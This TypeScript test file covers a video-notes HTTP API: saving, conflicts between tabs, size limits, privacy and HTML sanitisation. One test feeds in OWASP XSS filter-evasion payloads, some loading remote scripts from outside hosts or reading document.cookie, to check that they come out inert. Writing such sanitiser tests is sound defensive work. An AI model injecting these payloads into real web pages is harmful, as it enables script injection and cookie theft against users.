import type { NotesReply } from '@app/contracts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { NOTES_CONFLICT_MESSAGE } from '../../../services/notes/save-notes';
import { describeEachDatabase } from '../../../test/databases';
import { bearer, buildTestApp, signUpTestUser, type TestApp } from '../../../test/test-app';
import { FakeTextEmbedder } from '../../../providers/embeddings/fake-text-embedder';

const VIDEO = 'notesVideo1';

/** Filter-evasion payloads from the OWASP XSS Filter Evasion Cheat Sheet (and a few editor-specific ones). */
const OWASP_XSS = [
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  "<svg/onload=alert('XSS')>",
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<p style="color:red" onclick="alert(1)">styled</p>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
];

describeEachDatabase('notes over HTTP', (t) => {
  let s: TestApp;
  let token: string;
  beforeAll(async () => {
    s = await buildTestApp({
      database: t.database,
      overrides: { embedder: new FakeTextEmbedder(), languageModel: null },
    });
    token = (await signUpTestUser(s.app)).token;
  });
  afterAll(async () => {
    await s.app.close();
  });

  const get = (video = VIDEO, tok: string | null = token) =>
    s.app.inject({ method: 'GET', url: `/api/v1/notes/${video}`, headers: tok ? bearer(tok) : {} });
  const post = (payload: unknown, tok: string | null = token) =>
    s.app.inject({
      method: 'POST',
      url: '/api/v1/notes',
      headers: tok ? bearer(tok) : {},
      payload: payload as object,
    });

  it('returns success with null notes for a video never saved', async () => {
    const res = await get('neverSaved1');
    expect(res.statusCode).toBe(200);
    expect(res.json<NotesReply>()).toEqual({
      success: true,
      notes: null,
      data: null,
      timestamp: null,
    });
  });

  it('stores and returns the editor’s formatting unchanged, with the version timestamp', async () => {
    const html =
      '<h1>Title</h1><h2>Sub</h2><h3>Small</h3><p><strong>b</strong> <em>i</em> <s>s</s><br>line</p>' +
      '<ul><li><p>one</p></li></ul><ol><li><p>two</p></li></ol><blockquote><p>quote</p></blockquote>';
    const saved = await post({ video_id: 'formatVid01', notes: html, base_timestamp: null });
    expect(saved.statusCode, saved.body).toBe(200);
    const { timestamp } = saved.json<{ success: true; timestamp: string }>();
    const loaded = (await get('formatVid01')).json<NotesReply>();
    expect(loaded).toEqual({ success: true, notes: html, data: html, timestamp });
  });

  it('saves notes pasted with a NUL byte, without it (PostgreSQL text cannot hold one)', async () => {
    const saved = await post({
      video_id: 'nulNotes001',
      notes: '<p>a\u0000b</p>',
      base_timestamp: null,
    });
    expect(saved.statusCode, saved.body).toBe(200);
    expect((await get('nulNotes001')).json<NotesReply>().notes).toBe('<p>ab</p>');
  });

  it('makes every OWASP filter-evasion example inert', async () => {
    const html = OWASP_XSS.map((x) => `<p>${x}</p>`).join('');
    const saved = await post({ video_id: 'xssVideo001', notes: html, base_timestamp: null });
    expect(saved.statusCode, saved.body).toBe(200);
    const stored = (await get('xssVideo001')).json<NotesReply>().notes ?? '';
    // No element other than the editor's own, and no attribute at all.
    const tags = [...stored.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9]*)/g)].map((m) =>
      m[1]!.toLowerCase(),
    );
    expect(new Set(tags).size).toBeGreaterThan(0);
    for (const tag of tags)
      expect([
        'p',
        'br',
        'h1',
        'h2',
        'h3',
        'strong',
        'em',
        's',
        'ul',
        'ol',
        'li',
        'blockquote',
      ]).toContain(tag);
    expect(stored).not.toMatch(/<[a-z0-9]+\s+[^>]*=/i);
    expect(stored).not.toMatch(
      /<script|<img|<svg|<iframe|<style|<meta|<object|<table|<div|<body|<math/i,
    );
    // Visible text survives as escaped text (people may want to keep the sample in their notes).
    expect(stored).toContain('xxs link');
    expect(stored).toContain('styled');
  });

  it('refuses notes over 200 KB with 413 and a message, and invalid input with 400', async () => {
    const big = await post({ video_id: VIDEO, notes: `<p>${'a'.repeat(210 * 1024)}</p>` });
    expect(big.statusCode).toBe(413);
    expect(big.json<{ message: string; code: string }>()).toMatchObject({
      code: 'notes_too_large',
      message: expect.stringMatching(/at most 200 KB; these are 211 KB/) as unknown,
    });
    expect((await post({ video_id: 'bad', notes: '<p>x</p>' })).statusCode).toBe(400);
    expect((await post({ video_id: VIDEO, notes: 5 })).statusCode).toBe(400);
    expect(
      (await post({ video_id: VIDEO, notes: '<p>x</p>', timestamp: 'yesterday' })).statusCode,
    ).toBe(400);
    expect((await get('bad')).statusCode).toBe(400);
    expect((await get(VIDEO, null)).statusCode).toBe(401);
    expect((await post({ video_id: VIDEO, notes: '<p>x</p>' }, null)).statusCode).toBe(401);
  });

  it('detects a write from another tab: 409 with a message and nothing overwritten', async () => {
    const video = 'conflictVi1';
    const first = (await post({ video_id: video, notes: '<p>v1</p>', base_timestamp: null })).json<{
      timestamp: string;
    }>();
    // Tab A saves on top of v1.
    const tabA = await post({
      video_id: video,
      notes: '<p>v2 from A</p>',
      base_timestamp: first.timestamp,
    });
    expect(tabA.statusCode).toBe(200);
    // Tab B still started from v1.
    const tabB = await post({
      video_id: video,
      notes: '<p>v2 from B</p>',
      base_timestamp: first.timestamp,
    });
    expect(tabB.statusCode).toBe(409);
    expect(tabB.json<{ message: string }>().message).toBe(NOTES_CONFLICT_MESSAGE);
    // A tab that loaded nothing cannot overwrite existing notes either.
    expect(
      (await post({ video_id: video, notes: '<p>fresh</p>', base_timestamp: null })).statusCode,
    ).toBe(409);
    expect((await get(video)).json<NotesReply>().notes).toBe('<p>v2 from A</p>');
    // After reloading (new base) the save goes through.
    const latest = (await get(video)).json<NotesReply>();
    const again = await post({
      video_id: video,
      notes: '<p>v3</p>',
      base_timestamp: latest.timestamp,
    });
    expect(again.statusCode).toBe(200);
    expect(Date.parse(again.json<{ timestamp: string }>().timestamp)).toBeGreaterThan(
      Date.parse(latest.timestamp!),
    );
  });

  it('keeps notes private: another user sees none and cannot change them', async () => {
    const video = 'privateVid1';
    await post({ video_id: video, notes: '<p>mine</p>', base_timestamp: null });
    const other = await signUpTestUser(s.app);
    expect((await get(video, other.token)).json<NotesReply>().notes).toBeNull();
    expect(
      (await post({ video_id: video, notes: '<p>theirs</p>', base_timestamp: null }, other.token))
        .statusCode,
    ).toBe(200);
    expect((await get(video)).json<NotesReply>().notes).toBe('<p>mine</p>');
    expect((await get(video, other.token)).json<NotesReply>().notes).toBe('<p>theirs</p>');
  });

  describe('a client that sends only `timestamp` (no base_timestamp)', () => {
    it('uses it as the base version', async () => {
      const video = 'legacyVid01';
      const first = (await post({ video_id: video, notes: '<p>a</p>' })).json<{
        timestamp: string;
      }>();
      expect(
        (await post({ video_id: video, notes: '<p>b</p>', timestamp: first.timestamp })).statusCode,
      ).toBe(200);
      expect(
        (await post({ video_id: video, notes: '<p>c</p>', timestamp: first.timestamp })).statusCode,
      ).toBe(409);
    });
  });
});
